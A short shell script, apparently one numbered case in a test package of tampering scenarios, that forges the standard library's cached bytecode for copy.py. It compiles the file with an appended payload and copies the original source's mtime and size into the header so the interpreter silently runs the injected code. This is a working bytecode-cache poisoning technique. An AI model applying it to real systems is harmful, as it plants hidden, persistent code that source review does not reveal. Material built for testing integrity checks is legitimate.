# 15. Gold's own bytecode file of copy.py forged in place (the folder stays gold's plain
#    __pycache__): compiled from copy.py plus the payload, with the untouched source's mtime
#    and size in its header, so an interpreter that trusts the folder runs it.
py=$(ls /usr/bin/python3.* | grep -E 'python3\.[0-9]+$' | head -n 1)
lib=$($py -c 'import sysconfig; print(sysconfig.get_paths()["stdlib"])')
$py - "$lib" <<'PY'
import importlib.util, marshal, os, sys
lib = sys.argv[1]
src = os.path.join(lib, "copy.py")
st = os.stat(src)
code = compile(open(src).read() + "\n" + open("/solution/forge.py").read(), src, "exec")
data = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + int(st.st_mtime).to_bytes(4, "little") \
    + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code)
open(os.path.join(lib, "__pycache__", f"copy.{sys.implementation.cache_tag}.pyc"), "wb").write(data)
PY
